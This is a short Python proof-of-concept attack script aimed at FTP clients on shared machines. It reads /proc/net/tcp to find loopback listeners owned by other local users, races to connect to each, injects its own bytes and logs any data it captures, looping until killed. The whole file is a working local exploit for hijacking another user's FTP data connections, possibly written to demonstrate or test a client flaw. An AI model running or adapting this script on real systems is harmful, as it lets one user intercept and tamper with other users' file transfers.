#!/usr/bin/env python3
"""Another local user racing an FTP client's data connections: it reads the socket table
for loopback listeners (state 0A) of other users, connects to each at once, sends bytes of
its own and reports anything it receives (`GOT n bytes from PORT`). Runs until killed."""
import socket
import sys

ME = __import__("os").getuid()


def listeners():
    found = set()
    with open("/proc/net/tcp") as table:
        next(table)
        for row in table:
            fields = row.split()
            local, state, uid = fields[1], fields[3], int(fields[7])
            address, port = local.split(":")
            if state == "0A" and address == "0100007F" and uid != ME:
                found.add(int(port, 16))
    return found


while True:
    for port in listeners():
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=0.2)
            s.sendall(b"EVIL BYTES OF ANOTHER USER\r\n" * 4)
            s.settimeout(0.2)
            data = s.recv(65536)
            if data:
                print(f"GOT {len(data)} bytes from {port}: {data[:60]!r}", flush=True)
            s.close()
        except OSError:
            pass
